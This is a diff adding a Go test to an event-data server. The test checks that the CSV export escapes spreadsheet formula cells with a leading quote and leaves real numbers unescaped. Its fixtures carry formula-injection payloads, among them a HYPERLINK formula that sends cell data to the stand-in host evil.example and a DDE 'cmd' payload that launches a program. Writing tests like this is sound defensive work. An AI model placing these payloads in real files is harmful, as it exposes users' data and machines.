@@ -803,3 +803,64 @@ func TestDocument_IDsRoundTrip(t *testing.T) {
 		t.Errorf("prefix of an id: %d", r.status)
 	}
 }
+
+// TestExportCSV_FormulasEscaped checks that text cells a spreadsheet would
+// run as formulas leave the CSV export behind a single quote, while numbers
+// (negative coordinates and intensities, numeric text) stay numbers.
+func TestExportCSV_FormulasEscaped(t *testing.T) {
+	docs := storetest.Fixture()
+	d2 := &docs[1].Record // PROTEST in Nairobi (lat -1.28), AID in Mombasa
+	hyper := `=HYPERLINK("http://evil.example/?"&A1,"click")`
+	d2.Events[0].Actor[0].EntityName = hyper
+	d2.Events[0].Evidence.TriggerText = "@SUM(1+1)"
+	d2.Events[0].Location.Name = "+cmd|' /C calc'!A0"
+	d2.Events[0].Recipient[0].EntityName = "\tTabbed"
+	d2.Events[1].Actor[0].EntityName = "-2+3"
+	d2.Events[1].ClaimedBy.EntityName = "-2+3"
+	d2.Events[1].Recipient[0].EntityName = "-5"
+	d2.Events[1].Location.Name = "\rReturn"
+	db := newStore(t)
+	if _, err := db.PutDocuments(context.Background(), docs); err != nil {
+		t.Fatal(err)
+	}
+	s := server.New(db, server.Options{})
+	r := get(t, s, "/api/export/events.csv?recipient_country=KEN")
+	if r.status != http.StatusOK {
+		t.Fatalf("status %d %s", r.status, r.body)
+	}
+	recs, err := csv.NewReader(bytes.NewReader(r.body)).ReadAll()
+	if err != nil || len(recs) != 3 {
+		t.Fatalf("csv %v: %q", err, r.body)
+	}
+	col := map[string]int{}
+	for i, h := range recs[0] {
+		col[h] = i
+	}
+	protest, aid := recs[2], recs[1] // AID is dated a day earlier
+	for _, c := range []struct {
+		row       []string
+		col, want string
+	}{
+		{protest, "actor_name", "'" + hyper},
+		{protest, "trigger", "'@SUM(1+1)"},
+		{protest, "location_name", "'+cmd|' /C calc'!A0"},
+		{protest, "recipient_name", "'\tTabbed"},
+		{protest, "lat", "-1.28"},
+		{protest, "event", "PROTEST"},
+		{aid, "actor_name", "'-2+3"},
+		{aid, "claimed_by", "'-2+3"},
+		{aid, "recipient_name", "-5"},
+		{aid, "location_name", "'\rReturn"},
+		{aid, "lat", "-4.04"},
+	} {
+		if got := c.row[col[c.col]]; got != c.want {
+			t.Errorf("%s %s = %q, want %q", c.row[col["event"]], c.col, got, c.want)
+		}
+	}
+	// Intensity is numeric: d1/e1's -9 stays a number.
+	r = get(t, s, "/api/export/events.csv?type=ASSAULT")
+	recs, _ = csv.NewReader(bytes.NewReader(r.body)).ReadAll()
+	if len(recs) != 2 || recs[1][col["intensity"]] != "-9" {
+		t.Errorf("intensity: %v", recs)
+	}
+}
